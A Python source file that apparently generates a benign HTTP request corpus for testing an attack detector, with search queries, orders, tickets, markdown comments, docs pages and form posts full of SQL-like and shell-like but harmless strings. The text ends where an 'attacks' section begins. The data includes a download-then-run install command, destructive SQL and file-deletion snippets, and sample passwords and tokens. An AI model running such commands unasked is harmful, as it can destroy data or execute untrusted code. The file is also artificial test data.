    "The export CSV uses `;` as a separator for our locale (fr-FR) and Excel opens it fine, but our script expects `,`. Can we choose?",
    "Our invoices show the wrong VAT rate (20% instead of 21%) for customers in Belgium since Dec 1.",
    "Could you add Apple Pay to the checkout? About 40% of our customers are on iOS.",
    "The mobile app logs me out every time I switch to another app. iPhone 15, app v5.14.2.",
    "We need a copy of your SOC 2 report for our vendor review. Who can send it under NDA?",
    "Bulk import: the CSV template has a 'Tags' column but tags aren't imported. Example row: `TS-BLUE-XL,\"Blue shirt, XL\",24.99,\"summer;sale\"`",
    "Hello! Is it possible to change the email on my account from mike_smith99@example.com to mike.smith@example.com?",
    "Webhook retries: if our endpoint is down for 2 hours, how many times do you retry, and with what backoff?",
    "The 'Order shipped' email says 'Your order #A-3310 is on it's way' — small typo (its).",
    "We're seeing `SSL: CERTIFICATE_VERIFY_FAILED` from Python 3.8 on CentOS 7 since you rotated certificates. Is the new chain using ISRG Root X1?",
    "The search API returns results for \"rock & roll\" but not for \"rock and roll\". Could you treat & and 'and' as synonyms?",
    "Reproduced on 3.4.1:\n\n| step | expected | actual |\n|------|----------|--------|\n| login | 200 | 200 |\n| GET /orders | 200 | 500 |\n\nThe 500 only happens for accounts created before 2021.",
]

TICKET_COMMENTS = [
    "Thanks, that fixed it! Closing.",
    "Still happening on my side — see the attached HAR file.",
    "Escalating to tier 2; the customer is on the Select plan.",
    "Customer confirmed the refund arrived. Marking as solved.",
    "Workaround: set `charset` lowercase; we'll fix the parser in 3.5.",
    "Waiting on the customer's reply (asked for their order # and the approximate time).",
    "Root cause: the index on orders(user_id) was dropped by migration 0042. Re-created; p95 back to 120 ms.",
    "Merged the duplicate tickets #18342 & #18343 into this one.",
    "Reopening: the customer says it's back since yesterday's deploy.",
    "Can you try again? We've deployed a fix for names with apostrophes (O'Reilly, D'Angelo, etc.).",
    "I've asked the carrier; the drop-off kiosk reopens Monday.",
    "Sent the GDPR export to o'connor.sean@example.ie; deletion scheduled in 30 days.",
]

COMMENTS = [
    "## Summary\n\nThis PR adds *pagination* to the `/orders` endpoint.\n\n- [x] tests\n- [ ] docs\n\nSee [the spec](https://example.com/spec#pagination).",
    "> I think we should use `LIMIT`/`OFFSET`\n\nKeyset pagination scales better: `WHERE id > :last_id ORDER BY id LIMIT 50`.",
    "| Plan | Price | Requests/min |\n|------|-------|--------------|\n| Free | $0 | 60 |\n| Pro | $49 | 1,000 |\n| Select | $99 | 5,000 |",
    "| id | name | status |\n|----|------|--------|\n| 1 | O'Brien | active |\n| 2 | D'Angelo | pending |",
    "|id|email|plan|\n|--|--|--|\n|42|o'brien@example.com|pro|",
    "LGTM 👍 but can we rename `tmp` to something clearer?",
    "Nice write-up! Small nit: `rm -rf node_modules && npm ci` is faster than `npm install` on CI.",
    "Tip: to find big files run `du -sh * | sort -h | tail -n 20`.",
    "Use `<details>` and `<summary>` to collapse long logs in issues.",
    "Reminder: the `<script>` tag must come after `<div id=\"app\">`, otherwise `document.getElementById('app')` is null.",
    "I'd write it as `SELECT COUNT(*) FROM orders WHERE status = 'shipped'` — much faster than loading everything in Python.",
    "The regex `^[a-z0-9_-]{3,16}$` is too strict for names like O'Reilly.",
    "Agreed with @conan.obrien — let's ship it Friday & monitor.",
    "Edit: fixed the link (it was pointing to ../v1/docs instead of ../v2/docs).",
    "1. Open *Settings → Billing*\n2. Click **Update card**\n3. Enter the new card & save",
    "Great article. One question: why `O(n log n)` and not `O(n)` for the merge step?",
    "This is the way. 🙌",
    "Could you add an example with `curl`? Something like `curl -H 'Authorization: Bearer $TOKEN' https://api.example.com/v1/me`.",
    "Thanks for the quick fix!! You're the best <3",
    "Hmm, I get `TypeError: Cannot read properties of undefined (reading 'map')` after upgrading to 2.0.",
    "+1, same here. Rolling back to 1.9 for now.",
    "Please don't use `SELECT *` in examples; people copy-paste them into production.",
    "Won't this break clients that send `Accept: */*`?",
    "### Steps\n\n1. `git checkout -b fix/o-reilly`\n2. make the change\n3. `git commit -am \"fix: apostrophes in names\"`\n4. open a PR",
    "It's 5 o'clock somewhere; merging 🍻",
    "If x < 10 and y > 20 the loop never ends; add a guard.",
    "Rock & roll! 🎸 Deployed to prod.",
    "For Windows: `set API_KEY=sk_test_123 && node index.js`; for macOS/Linux: `API_KEY=sk_test_123 node index.js`.",
    "The docs page says \"drop-down\" but the UI says \"dropdown\"; pick one?",
    "Union types would make this much simpler in TypeScript: `type Id = string | number`.",
    "Off-topic, but: does anyone know a good O'Reilly book on distributed systems?",
    "Works on my machine ™",
    "Filed #1234 for the follow-up; let's not block this PR on it.",
    "Changelog: **Added** `--dry-run`; **Fixed** crash when the name contains `&`; **Removed** Python 3.7 support.",
    "Heads-up: the 3.2 release notes say \"drop support for TLS 1.0 & 1.1\".",
    "I tried `echo $PATH` and the new bin dir isn't there; you need to restart the shell.",
    "Before: 1,200 ms. After: 85 ms. 🚀",
    "Hmm — isn't `<b>` deprecated? Use `<strong>`.",
    "Quote from the RFC: \"A sender MUST NOT generate a message that includes line folding\".",
    "Cool! Can we get the same for tickets (`/api/v1/tickets?status=open&sort=-updated_at`)?",
    "Nit: 'its' → 'it's' in the second paragraph.",
    "Add `127.0.0.1 shop.local` to your hosts file and open http://shop.local:3000.",
    "Shouldn't `a && b || c` be parenthesised for readability?",
    "Full-stack dev here (React & Node). The SDK works great with Next.js 14.",
    "Yes! Finally. I've been waiting for this since 2021 :)",
]

DOC_PAGES = [
    ("sql-joins", "SQL joins in 5 minutes",
     "# SQL joins\n\nAn inner join returns rows that match in both tables:\n\n```sql\nSELECT o.id, c.name\nFROM orders o\nJOIN customers c ON c.id = o.customer_id\nWHERE o.status = 'shipped';\n```\n\nUse a `LEFT JOIN` to keep customers without orders."),
    ("sql-union", "Combining results with UNION",
     "## UNION\n\n`UNION` combines the results of two queries and removes duplicates:\n\n```sql\nSELECT city FROM customers\nUNION\nSELECT city FROM suppliers\nORDER BY city;\n```\n\nUse `UNION ALL` to keep duplicates; it is faster."),
    ("ssh-keys", "Adding your SSH key",
     "1. Generate a key: `ssh-keygen -t ed25519 -C \"you@example.com\"`\n2. Copy it: `cat ~/.ssh/id_ed25519.pub | pbcopy`\n3. Paste it under *Settings → SSH keys*."),
    ("path-setup", "Putting the CLI on your PATH",
     "Add this to `~/.bashrc`:\n\n```bash\nexport PATH=\"$HOME/.local/bin:$PATH\"\n```\n\nThen reload it: `source ~/.bashrc; echo $PATH`."),
    ("install", "Installing the CLI",
     "On macOS: `brew install example-cli`.\n\nOn Linux:\n\n```bash\ncurl -fsSL https://get.example.com/install.sh -o install.sh\nbash install.sh --prefix ~/.local\n```"),
    ("log-tips", "Reading logs",
     "Count errors per hour:\n\n```bash\ngrep ERROR app.log | cut -c1-13 | sort | uniq -c\n```\n\nOr follow the log: `tail -f /var/log/app/app.log`."),
    ("widget", "Embedding the reviews widget",
     "Paste this where the reviews should appear:\n\n```html\n<div id=\"reviews\" data-product=\"blue-shirt-xl\"></div>\n<script src=\"https://cdn.example.com/widget.js\" async></script>\n```"),
    ("escaping", "Escaping user content",
     "Always escape `<`, `>`, `&`, `\"` and `'` before putting user content in HTML. For example `Tom & Jerry <3` becomes `Tom &amp; Jerry &lt;3`."),
    ("webhooks", "Verifying webhook signatures",
     "Compute an HMAC-SHA256 of the raw body with your secret and compare it to the `X-Signature` header:\n\n```python\nimport hmac, hashlib\nsig = hmac.new(secret, body, hashlib.sha256).hexdigest()\nok = hmac.compare_digest(sig, header)\n```"),
    ("pagination", "Pagination",
     "List endpoints return at most 100 items. Pass the `next_cursor` from the response as `cursor` to get the next page: `GET /api/v1/orders?cursor=eyJpZCI6MTIzNH0&limit=100`."),
    ("find-old-files", "Cleaning up old exports",
     "Exports older than 7 days can be removed with:\n\n```bash\nfind ./exports -name '*.csv' -mtime +7 -delete\n```"),
    ("docker", "Running the sandbox in Docker",
     "```bash\ndocker run --rm -it -p 8080:80 -e API_KEY=sk_test_123 example/sandbox:latest\n```\n\nThen open http://localhost:8080."),
    ("orders-filtering", "Filtering orders",
     "Filters combine with AND: `status=paid&created_after=2024-12-01`. To match several statuses use a comma: `status=paid,select`. There is no OR between different fields."),
    ("markdown", "Formatting messages",
     "Messages support Markdown: **bold**, *italic*, `code`, [links](https://example.com), lists, and tables:\n\n| Syntax | Result |\n|---|---|\n| `**a**` | **a** |\n| `*a*` | *a* |"),
    ("json-config", "The config file",
     "```json\n{\n  \"apiKey\": \"sk_test_123\",\n  \"retries\": 3,\n  \"timeout\": \"30s\",\n  \"baseUrl\": \"https://api.example.com\"\n}\n```"),
]

SNIPPETS = [
    ("sql", "Top customers", "SELECT customer_id, SUM(total) AS revenue FROM orders GROUP BY customer_id ORDER BY revenue DESC LIMIT 10;", "Top 10 customers by revenue. Works on Postgres & MySQL."),
    ("sql", "Orders without items", "SELECT o.id FROM orders o LEFT JOIN order_items i ON i.order_id = o.id WHERE i.id IS NULL;", "Finds orphaned orders; we had a few after the 0042 migration."),
    ("bash", "Tail the API log", "kubectl logs -f deploy/api -n prod --since=10m | grep -v healthz", "Skips the health checks."),
    ("bash", "Restart on change", "while inotifywait -e modify config.yaml; do systemctl reload gatehouse; done", "Poor man's hot reload."),
    ("python", "Retry with backoff", "for attempt in range(5):\n    try:\n        return call()\n    except TimeoutError:\n        time.sleep(2 ** attempt)", "Exponential backoff; don't retry on 4xx."),
    ("javascript", "Debounce", "function debounce(fn, ms) {\n  let t;\n  return (...args) => { clearTimeout(t); t = setTimeout(() => fn(...args), ms); };\n}", "Use it for the search box so we don't call /suggest on every key."),
    ("bash", "Count 5xx per minute", "awk '$9 >= 500 {print substr($4, 2, 17)}' access.log | sort | uniq -c", "Field 9 is the status in the combined log format."),
    ("sql", "Delete test accounts", "DELETE FROM users WHERE email LIKE '%@example.test';", "Run on staging only!"),
    ("bash", "Disk usage", "df -h && du -sh /var/lib/docker", "When the node fills up."),
    ("go", "HTTP client with timeout", "client := &http.Client{Timeout: 10 * time.Second}\nresp, err := client.Get(url)", "Never use the default client in production."),
    ("bash", "Pretty-print JSON", "curl -s https://api.example.com/v1/products | jq '.data[] | {id, name}'", "Needs jq 1.6+."),
    ("sql", "Drop the temp table", "DROP TABLE IF EXISTS tmp_import;", "After the nightly import."),
    ("bash", "Find TODOs", "grep -rn 'TODO' src/ | wc -l", "We're at 42."),
    ("html", "Accessible button", "<button type=\"button\" aria-label=\"Close\">&times;</button>", "Screen readers read the label, not the ×."),
    ("bash", "Backup the DB", "pg_dump -Fc shop > shop-$(date +%F).dump", "Keeps one file per day."),
]

PROFILES = [
    {"displayName": "Conan O'Brien", "bio": "Comedian. Occasional coder.", "location": "Los Angeles, CA"},
    {"displayName": "Alex D'Angelo", "bio": "IT @ Barnes & Noble | opinions my own", "company": "Barnes & Noble"},
    {"displayName": "Siobhán O'Connor", "bio": "Runner 🏃‍♀️ | Dublin → Berlin", "location": "Berlin"},
    {"displayName": "Zoë Müller", "bio": "UX & research. She/her.", "pronouns": "she/her"},
    {"displayName": "Jean-Luc Picard", "bio": "Tea. Earl Grey. Hot.", "website": "https://enterprise.example.org"},
    {"displayName": "Ana O'Reilly", "bio": "Full-stack dev (React & Node)", "jobTitle": "Sr. Engineer, R&D"},
    {"displayName": "N'Golo K.", "bio": "Football, food & family", "location": "Côte d'Ivoire"},
    {"displayName": "李小龍", "bio": "Be water, my friend.", "location": "香港"},
    {"displayName": "Dev Patel", "bio": "Backend: Go, Rust & Python", "website": "https://dev.example.io/about?tab=projects"},
    {"displayName": "María José García-López", "bio": "Mamá de 2 | amante del café ☕", "locale": "es-ES"},
    {"displayName": "Chris \"CJ\" Johnson", "bio": "Coffee ☕ | Code 💻 | Cats 🐈", "pronouns": "he/him"},
    {"displayName": "Dr. Ruth O'Malley, PhD", "bio": "Ask me about <3 health (cardiology).", "jobTitle": "Cardiologist"},
    {"displayName": "Mike", "bio": "", "timezone": "America/New_York"},
    {"displayName": "Sam & Alex", "bio": "Shared account for our shop: Sam & Alex's Vintage.", "company": "Sam & Alex's Vintage"},
    {"displayName": "Priya", "bio": "I write about SQL, data & dashboards. Select * from life;", "website": "https://priya.example.com"},
    {"displayName": "Tomás", "bio": "50% developer, 50% musician, 100% tired.", "locale": "pt-BR"},
    {"displayName": "Ingrid", "bio": "Vegan 🌱 | she/they | drop me a line", "location": "Oslo"},
]

SETTINGS = [
    {"notifications": {"email": True, "sms": False, "push": True}, "language": "fr-CA", "currency": "CAD"},
    {"theme": "dark", "timezone": "Europe/Dublin", "weekStart": "monday"},
    {"signature": "Best,\n-- \nConan O'Brien | Support Lead\nExample Inc. | +1 (555) 010-4242"},
    {"autoReply": "I'm out of office until Jan 6th. For urgent issues, email support@example.com."},
    {"newsletter": False, "marketingConsent": {"given": False, "at": "2024-12-05T09:15:22Z"}},
    {"defaultShippingNote": "Leave with the neighbour at No. 14 if I'm not home."},
]

CUSTOMERS = [
    ("Conan O'Brien", "o'brien@example.com"), ("Alex D'Angelo", "d'angelo+orders@example.co.uk"),
    ("Siobhán O'Connor", "siobhan.oconnor@example.ie"), ("Zoë Müller", "zoe.mueller@example.de"),
    ("Ana O'Reilly", "ana.o'reilly@example.com"), ("Jean Dupont", "jean.dupont@example.fr"),
    ("Priya Shah", "priya@example.in"), ("Tomás Silva", "tomas.silva@example.com.br"),
    ("Kenji Sato", "k.sato@example.jp"), ("Mike Smith", "mike_smith99@example.com"),
]

ADDRESSES = [
    ("12 O'Connell St", "Apt #4B", "Dublin", "D01 F5P2", "IE"),
    ("221B Baker Street", "", "London", "NW1 6XE", "GB"),
    ("1600 Amphitheatre Pkwy", "Bldg 40", "Mountain View", "94043", "US"),
    ("8 rue de l'Église", "3e étage", "Paris", "75015", "FR"),
    ("Karl-Marx-Allee 93", "c/o Müller", "Berlin", "10243", "DE"),
    ("Rue des Jardins, Cocody", "Villa 12", "Abidjan", "01 BP 1234", "CI"),
    ("350 Fifth Ave", "Suite 3000 (front desk)", "New York", "10118", "US"),
    ("2-11-3 Meguro", "#402", "Tokyo", "153-0063", "JP"),
]

SHIP_INSTRUCTIONS = [
    "Leave at the back door; ring twice.",
    "Call on arrival - gate code is #1234.",
    "If no one's home, drop-off at the neighbour's (No. 14).",
    "Fragile & heavy: two people needed.",
    "Deliver after 5pm <weekdays only>.",
    "Don't leave it with the doorman, he loses things.",
    "Buzzer is broken -> text me at +1 555 010 4242.",
    "Please use the side entrance (the one with the blue door) :)",
    "",
]

ORDER_NOTES = [
    "Gift for my mom's 60th — please don't include the invoice!",
    "Select the blue one if the green is out of stock.",
    "Rush please; the event is on Friday.",
    "Happy birthday, Sam! Love, Alex & the kids <3",
    "Please pack the glasses separately (they're fragile).",
    "Same as order #A-1042 but in size L.",
    "Can you write \"Congrats, Dr. O'Malley!\" on the card?",
    "No plastic please; paper packaging only.",
    "PO number: 4500012345 / cost centre R&D-17",
    "",
]

ENGRAVINGS = ["J & K forever", "To my dad, the best", "Est. 2015", "O'Brien Family", "<3 always", "Rock & Roll", "100% Awesome", "Wé ❤ Paris"]

SKUS = ["TS-BLUE-XL", "TS-NAVY-M", "MUG-SEL-01", "BK-OREILLY-SQL3", "VINYL-DANG-VOODOO", "CBL-USBC-HDMI-2M", "LDR-6FT-ALU", "SOCK-RNR-3PK"]

COUPONS = ["SAVE-50", "WELCOME10", "BLACKFRIDAY", "", "FREESHIP", "VIP-SELECT"]

FORMS = [
    ("/login", lambda i: [("username", at(["conan.obrien", "alex.dangelo", "zoe@example.de", "priya"], i)),
                          ("password", at(["Tr0ub4dor&3", "correct horse battery staple", "S3cure!Pass#2024", "x7#Kq$!2mZ&p@9", "p@ss;word|42", "Summer2024!"], i)),
                          ("remember", "on"), ("csrf_token", "Yc7sH2kLm9Qw4Er6Ty8Ui0OpAsDfGhJk")]),
    ("/contact", lambda i: [("name", at(CUSTOMERS, i)[0]), ("email", at(CUSTOMERS, i)[1]),
                            ("subject", at(TICKET_TITLES, i)), ("message", at(TICKET_BODIES, i * 3 + 1))]),
    ("/newsletter/subscribe", lambda i: [("email", at(CUSTOMERS, i + 3)[1]), ("lists[]", "deals"), ("lists[]", "new-arrivals")]),
    ("/api/v1/search", lambda i: [("q", at(SEARCH_TERMS, i * 5)), ("category", "all")]),
    ("/checkout/address", lambda i: [("name", at(CUSTOMERS, i)[0]), ("line1", at(ADDRESSES, i)[0]), ("line2", at(ADDRESSES, i)[1]),
                                     ("city", at(ADDRESSES, i)[2]), ("postal_code", at(ADDRESSES, i)[3]), ("country", at(ADDRESSES, i)[4]),
                                     ("instructions", at(SHIP_INSTRUCTIONS, i))]),
    ("/oauth/token", lambda i: [("grant_type", "authorization_code"), ("code", "SplxlOBeZQQYbYS6WxSbIA"),
                                ("redirect_uri", "https://app.example.com/callback"), ("client_id", "s6BhdRkqt3"),
                                ("code_verifier", "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk")]),
    ("/blog/comments", lambda i: [("author", at(CUSTOMERS, i)[0]), ("email", at(CUSTOMERS, i)[1]),
                                  ("url", "https://blog.example.org/~%s/" % at(["conan", "alex", "zoe"], i)), ("comment", at(COMMENTS, i * 7 + 2))]),
    ("/api/v1/integrations/slack/commands", lambda i: [("token", "gIkuvaNzQIHg97ATvDxqgjtO"), ("team_id", "T0001"), ("channel_name", "ops"),
                                                       ("user_name", "conan"), ("command", "/deploy"),
                                                       ("text", at(["api to staging && notify #ops", "rollback web 3.2.1", "status", "web --dry-run"], i)),
                                                       ("response_url", "https://hooks.slack.com/commands/1234/5678")]),
    ("/api/v1/integrations/twilio/sms", lambda i: [("From", "+15551234567"), ("To", "+15557654321"),
                                                   ("Body", at(["STOP", "Where's my order? #A-1042", "Yes, 3pm works :)", "Can u deliver after 5 & before 8?", "ok thx!!"], i)),
                                                   ("MessageSid", "SM" + "0123456789abcdef" * 2)]),
    ("/account/delete", lambda i: [("reason", at(["Too many emails", "I found a cheaper option", "Privacy concerns; please delete everything.", "Other: moving abroad & closing accounts"], i)),
                                   ("confirm", "DELETE")]),
]

GRAPHQL = [
    ("query GetUser($id: ID!) { user(id: $id) { name email orders(first: 10) { edges { node { id total status } } } } }", {"id": "42"}, "GetUser"),
    ("mutation AddReview($input: ReviewInput!) { addReview(input: $input) { id rating } }",
     {"input": {"productId": "blue-shirt-xl", "rating": 4, "body": "Runs small — order one size up."}}, "AddReview"),
    ("query Search($q: String!) { search(query: $q, first: 20) { ... on Product { id name price } } }", {"q": "O'Reilly books"}, "Search"),
    ("mutation UpdateNote($id: ID!, $note: String) { updateOrder(id: $id, note: $note) { id } }",
     {"id": uid("order-3"), "note": "Leave at the back door; ring twice."}, "UpdateNote"),
    ("query { products(filter: {tags: [\"select\", \"drop-off\"]}) { id name } }", {}, None),
]

COMMITS = [
    "Bump lodash from 4.17.20 to 4.17.21",
    "fix: escape <, > and & in product names",
    "Merge pull request #42 from acme/fix-o-reilly-names",
    "Revert \"Use UNION ALL in the sales report query\"",
    "chore: remove dist/ before build",
    "feat(search): support quoted phrases like \"exact match\"",
    "docs: explain how to add 127.0.0.1 to the hosts file",
    "Don't crash when the user's name contains an apostrophe",
    "Update README.md",
    "WIP: select/drop-down component",
]


# === the benign corpus ================================================================


def benign():
    out = []

    def add(group, method, path, headers, body=None, content_type=None, note=""):
        n = sum(1 for it in out if it["id"].startswith("b-%s-" % group)) + 1
        out.append({"id": "b-%s-%03d" % (group, n), "kind": "benign", "class": None, "method": method,
                    "path": path, "headers": headers, "body": body, "content_type": content_type, "note": note})

    # --- searches: a page's fetch() with encodeURIComponent, apps, SDKs ---
    for i, term in enumerate(SEARCH_TERMS):
        extra = at([[], [("page", "2")], [("sort", "price_asc"), ("limit", "24")], [("category", "books")],
                    [("in_stock", "true"), ("price_max", "50")], [("lang", "fr")]], i)
        kind = i % 7
        if kind in (0, 2, 4):
            # The page the search box lives on is the Referer: the browser encodes it as a form does.
            ref = "https://shop.example.com/search?q=" + form_q(term)
            h, enc = browser(i, referer=ref), js_uri
        elif kind in (1, 5):
            h, enc = app(i), js_uri
        else:
            h, enc = sdk(i), py_q
        add("search", "GET", "/api/v1/search?" + query([("q", term)] + extra, enc), h, note="search " + repr(term))
    # typeahead: the prefixes a search box sends while the user types
    for i, term in enumerate(SEARCH_TERMS[:40:2]):
        prefix = term[: max(3, len(term) * 2 // 3)]
        add("suggest", "GET", "/api/v1/search/suggest?" + query([("prefix", prefix), ("limit", "8")]), browser(i + 3), note="typeahead " + repr(prefix))

    # --- resource reads ---
    for i, (path, params) in enumerate(RESOURCE_GETS):
        for j in range(2 if i % 3 == 0 else 1):
            k = i * 2 + j
            enc = py_q if k % 7 in (3, 6) else js_uri
            target = path + ("?" + query(params, enc) if params else "")
            h = client(k)
            if j == 1:
                h = h + [("If-None-Match", 'W/"5f3c-1a2b3c4d"'), ("Cache-Control", "no-cache")]
            add("get", "GET", target, h, note="read " + path)

    # --- orders (schema-conforming) ---
    for i in range(60):
        name, email = at(CUSTOMERS, i)
        line1, line2, city, postal, country = at(ADDRESSES, i)
        items = []
        for j in range(1 + i % 3):
            it = {"sku": at(SKUS, i + j), "quantity": 1 + (i + j) % 4, "unitPrice": round(9.99 + 5 * ((i + j) % 7), 2)}
            if (i + j) % 4 == 0:
                it["note"] = "Engraving: " + at(ENGRAVINGS, i + j)
            if (i + j) % 5 == 0:
                it["productId"] = uid("product-%d" % ((i + j) % 8))
            items.append(it)
        order = {"customerId": uid("customer-%d" % (i % 10)), "items": items}
        if i % 5 != 4:
            order["contactEmail"] = email
        if i % 2 == 0:
            order["deliveryMethod"] = at(["standard", "drop-off", "express", "pick-up", "locker", "drop-off"], i // 2)
        if i % 3 == 0:
            order["tier"] = at(["select", "basic", "premium", "select"], i // 3)
        if i % 4 == 1:
            order["status"] = at(["draft", "pending", "select", "drop-off"], i // 4)
        if i % 2 == 1:
            order["created"] = iso(i)
        if i % 6 == 2:
            order["deliveryDate"] = date(i)
        if at(COUPONS, i):
            order["couponCode"] = at(COUPONS, i)
        if at(ORDER_NOTES, i):
            order["note"] = at(ORDER_NOTES, i)
        if i % 4 == 3:
            order["tags"] = [at(_TAGS, i), at(_TAGS, i + 3)]
        if i % 5 == 1:
            order["giftWrap"] = True
        if i % 4 != 2:
            ship = {"name": name, "line1": line1, "city": city, "postalCode": postal, "country": country}
            if line2:
                ship["line2"] = line2
            if at(SHIP_INSTRUCTIONS, i):
                ship["instructions"] = at(SHIP_INSTRUCTIONS, i)
            if i % 3 == 1:
                ship["phone"] = "+1 (555) 010-%04d" % (4000 + i)
            order["shipping"] = ship
        method, path = ("POST", "/api/v1/orders") if i % 6 else ("PUT", "/api/v1/orders/" + uid("order-%d" % i))
        add("order", method, path, client(i, method), jbody(order, ascii_only=i % 4 == 0), "application/json", note="order for " + name)

    # --- tickets (schema-conforming) ---
    for i in range(50):
        name, email = at(CUSTOMERS, i)
        t = {"title": at(TICKET_TITLES, i), "body": at(TICKET_BODIES, i),
             "requester": {"name": name, "email": email}}
        if i % 2 == 0:
            t["requester"]["accountId"] = uid("account-%d" % (i % 10))
        t["priority"] = at(["normal", "high", "low", "urgent", "normal"], i)
        if i % 3 != 2:
            t["category"] = at(["api", "billing", "account", "shipping", "select-plan", "drop-off", "bug"], i)
        if i % 4 == 0:
            t["tags"] = [at(["webhooks", "sdk", "login", "refund", "gdpr", "select", "union"], i), "sdk"]
        if i % 2 == 1:
            t["created"] = iso(i)
        if i % 5 == 3:
            t["relatedOrderId"] = uid("order-%d" % i)
        if i % 3 == 0:
            t["environment"] = {"os": at(["Windows 11", "macOS 14.1 (Sonoma)", "Ubuntu 22.04", "iOS 17.1.2", "Android 14"], i),
                                "browser": at(["Chrome 120", "Safari 17.1", "Firefox 121", "Edge 120"], i),
                                "sdkVersion": at(["4.2.1", "python 7.8.0", "node 14.10.0"], i)}
        add("ticket", "POST", "/api/v1/tickets", client(i, "POST"), jbody(t, ascii_only=i % 5 == 0), "application/json", note="ticket " + repr(t["title"]))
    for i in range(20):
        t = {"body": at(TICKET_COMMENTS, i)}
        if i % 2 == 0:
            t["status"] = at(["solved", "pending", "open", "on-hold", "closed"], i // 2)
        if i % 3 == 0:
            t["assigneeId"] = 1000 + i
        if i % 4 == 1:
            t["comment"] = "Internal: " + at(TICKET_COMMENTS, i + 5)
        method = "PATCH" if i % 2 == 0 else "POST"
        path = "/api/v1/tickets/%d" % (18300 + i) + ("" if method == "PATCH" else "/comments")
        add("ticket", method, path, browser(i, method), jbody(t), "application/json; charset=utf-8", note="ticket update")

    # --- product reviews ---
    for i in range(len(REVIEWS)):
        slug = at(["blue-shirt-xl", "o-reilly-learning-sql-3rd-edition", "d-angelo-voodoo-vinyl", "ladder-6ft-alu", "usb-c-hdmi-cable", "mattress-topper-queen"], i)
        r = {"rating": 1 + (i * 3) % 5, "title": at(REVIEW_TITLES, i), "body": REVIEWS[i],
             "author": {"displayName": at(CUSTOMERS, i)[0].split()[0], "verifiedPurchase": i % 3 != 0}}
        if i % 4 == 0:
            r["pros"] = ["light", "cheap"]
            r["cons"] = ["runs small"]
        if i % 5 == 2:
            r["wouldRecommend"] = True
        add("review", "POST", "/api/v1/products/%s/reviews" % slug, client(i, "POST"), jbody(r, ascii_only=i % 6 == 0), "application/json", note="review")

    # --- comments (markdown) ---
    for i in range(len(COMMENTS)):
        c = {"body": COMMENTS[i], "format": "markdown"}
        if i % 3 == 0:
            c["replyTo"] = 9000 + i
        if i % 4 == 1:
            c["mentions"] = ["conan.obrien"]
        add("comment", "POST", "/api/v1/posts/%d/comments" % (300 + i % 17), client(i, "POST"), jbody(c), "application/json", note="comment")

    # --- docs pages and snippets ---
    for i, (slug, title, body) in enumerate(DOC_PAGES):
        page = {"title": title, "body": body, "tags": ["docs", at(["sql", "cli", "api", "html"], i)], "published": i % 2 == 0}
        add("docs", "PUT", "/api/v1/docs/pages/" + slug, sdk(i), jbody(page), "application/json", note="docs page " + slug)
    for i, (lang, title, code, desc) in enumerate(SNIPPETS):
        s = {"title": title, "language": lang, "code": code, "description": desc, "visibility": "team"}
        add("docs", "POST", "/api/v1/snippets", client(i, "POST"), jbody(s), "application/json", note="snippet " + title)

    # --- profiles and settings ---
    for i, p in enumerate(PROFILES):
        method = "PATCH" if i % 3 else "PUT"
        add("profile", method, "/api/v1/users/%d" % (40 + i), client(i, method), jbody(p, ascii_only=i % 4 == 0), "application/json", note="profile " + p["displayName"])
    for i, s in enumerate(SETTINGS):
        add("profile", "PATCH", "/api/v1/users/me/settings", app(i), jbody(s), "application/json", note="settings")
    for i, (name, email) in enumerate(CUSTOMERS):
        body = {"email": email, "name": name, "marketingOptIn": i % 2 == 0}
        add("profile", "POST", "/api/v1/users", sdk(i), jbody(body), "application/json", note="sign-up " + email)

    # --- forms ---
    for i in range(45):
        path, fields = at(FORMS, i)
        k = i // len(FORMS)
        add("form", "POST", path, browser(i + k, "POST"), form_body(fields(i + k)), "application/x-www-form-urlencoded", note="form " + path)

    # --- everything else APIs see ---
    for i, (q, variables, op) in enumerate(GRAPHQL):
        body = {"query": q, "variables": variables}
        if op:
            body["operationName"] = op
        add("misc", "POST", "/api/v1/graphql", client(i, "POST"), jbody(body), "application/json", note="graphql " + str(op))
    for i in range(6):
        commits = [{"id": hashlib.sha1(b"%d" % (i * 3 + j)).hexdigest(), "message": at(COMMITS, i * 3 + j),
                    "author": {"name": at(CUSTOMERS, i + j)[0], "email": at(CUSTOMERS, i + j)[1]}} for j in range(2)]
        payload = {"ref": "refs/heads/main", "before": "0" * 40, "after": commits[-1]["id"],
                   "repository": {"full_name": "acme/web-app"}, "commits": commits}
        h = [("User-Agent", "GitHub-Hookshot/2f1a3b4"), ("X-GitHub-Event", "push"),
             ("X-GitHub-Delivery", uid("delivery-%d" % i)),
             ("X-Hub-Signature-256", "sha256=" + hashlib.sha256(b"%d" % i).hexdigest())]
        add("misc", "POST", "/api/v1/webhooks/github", h, jbody(payload), "application/json", note="github push webhook")
    for i in range(4):
        beacon = {"event": at(["page_view", "add_to_cart", "search", "checkout_started"], i), "props": {"q": at(SEARCH_TERMS, i * 11), "path": "/search"}}
        add("misc", "POST", "/api/v1/analytics/collect", browser(i, "POST"), jbody(beacon), "text/plain;charset=UTF-8", note="sendBeacon")
    for i in range(4):
        add("misc", "DELETE", "/api/v1/users/42/sessions/" + uid("sess-%d" % i), client(i, "DELETE"), note="logout")
        add("misc", "HEAD", "/api/v1/products/" + at(["blue-shirt-xl", "rock-n-roll-tee", "o-reilly-learning-sql-3rd-edition", "mug-select"], i), sdk(i), note="HEAD")
    for i in range(4):
        h = [("Origin", "https://shop.example.com"), ("Access-Control-Request-Method", at(["POST", "PATCH", "DELETE", "PUT"], i)),
             ("Access-Control-Request-Headers", "authorization,content-type,x-csrf-token"), ("User-Agent", at(BROWSERS, i))]
        add("misc", "OPTIONS", "/api/v1/orders", h, note="CORS preflight")
    for i in range(3):
        csv = ("sku,name,price\nTS-BLUE-XL,\"Blue shirt, XL\",24.99\nBK-OREILLY-SQL3,\"O'Reilly: Learning SQL\",39.90\n"
               "SOCK-RNR-3PK,Rock & Roll socks (3-pack),12.00\n").encode()
        add("misc", "POST", "/api/v1/imports/products", sdk(i), csv, "text/csv", note="CSV import")
    add("misc", "GET", "/api/v1/products/blue-shirt-xl/image", [("User-Agent", SAFARI_IOS), ("Range", "bytes=0-1023"), ("Accept", "image/avif,image/webp,*/*")], note="single range")
    add("misc", "POST", "/api/v1/uploads", sdk(1), b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "image/png", note="binary upload")
    return out


# === attacks ==========================================================================

ENTITY_STYLE = ["named", "dec", "hex"]
SPECIAL = set("<>\"'()/\\;=&|`$.:{} ")


def html_entities(p, style):
